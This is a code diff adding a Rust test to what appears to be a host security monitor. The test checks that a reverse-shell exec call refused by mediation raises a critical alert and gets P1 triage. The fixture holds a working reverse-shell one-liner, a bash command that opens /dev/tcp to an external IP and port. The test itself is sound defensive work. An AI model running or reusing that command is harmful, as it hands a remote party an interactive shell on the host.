@@ -1837,6 +1837,35 @@ mod triage {
         assert!(o.stdout.contains("P1 Burst Denial Triage"), "{}", o.stdout);
     }
 
+    /// A reverse shell refused by mediation raises a Critical alert; triage makes it P1 with
+    /// the investigation of Procedure 2, not P3 "log and monitor" (issue 16).
+    #[test]
+    fn a_critical_exec_mediation_alert_is_at_least_p1() {
+        let dir = tempfile::tempdir().unwrap();
+        let stream = write(
+            dir.path(),
+            "e.jsonl",
+            "{\"ts_ms\":1000,\"extension_id\":\"shell\",\"call_id\":\"rs\",\"method\":\"exec\",\"params\":{\"command\":\"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\"}}\n",
+        );
+        let out = dir.path().join("out");
+        let o = hostguard(&[
+            "run",
+            "--events",
+            s(&stream),
+            "--out",
+            s(&out),
+            "--profile",
+            "permissive",
+        ]);
+        assert_eq!(o.code, 0, "{}", o.stderr);
+        let alerts = std::fs::read_to_string(out.join("alerts.json")).unwrap();
+        assert!(alerts.contains("\"severity\": \"critical\""), "{alerts}");
+        let o = hostguard(&["triage", s(&out.join("alerts.json"))]);
+        assert_eq!(o.code, 0);
+        assert!(o.stdout.contains("P1 Burst Denial Triage"), "{}", o.stdout);
+        assert!(!o.stdout.contains("P3"), "{}", o.stdout);
+    }
+
     #[test]
     fn triage_bad_inputs_exit_two() {
         let dir = tempfile::tempdir().unwrap();
